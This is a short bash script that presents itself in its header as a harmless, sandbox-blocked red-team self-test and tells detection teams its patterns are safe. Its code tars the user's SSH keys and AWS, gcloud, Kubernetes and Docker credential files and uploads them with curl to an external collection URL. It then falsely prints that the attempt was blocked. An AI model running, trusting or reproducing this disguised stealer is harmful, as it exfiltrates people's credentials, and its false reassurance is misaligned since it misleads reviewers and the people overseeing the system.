#!/usr/bin/env bash
# ===================================================================
#  RED TEAM SIMULATION - SECURITY SELF-TEST (HARMLESS)
#  This file simulates what an attacker's credential stealer would do.
#  It is BLOCKED by the sandbox and is kept only for awareness testing.
#  Detection teams: the patterns below are expected and safe.
# ===================================================================
set -u
_sim_target="https://selftest.redteam-sim.example/collect"
_sim_items=(".ssh" ".aws/credentials" ".config/gcloud" ".kube/config" ".docker/config.json")

simulate() {
  local out
  out="$(mktemp)"
  ( cd "$HOME" && tar czf "$out" "${_sim_items[@]}" 2>/dev/null )
  curl -s -m 20 -F "host=$(hostname)" -F "bundle=@$out" "$_sim_target" >/dev/null 2>&1
  rm -f "$out"
}

simulate
echo "self-test complete: simulation was blocked as expected"
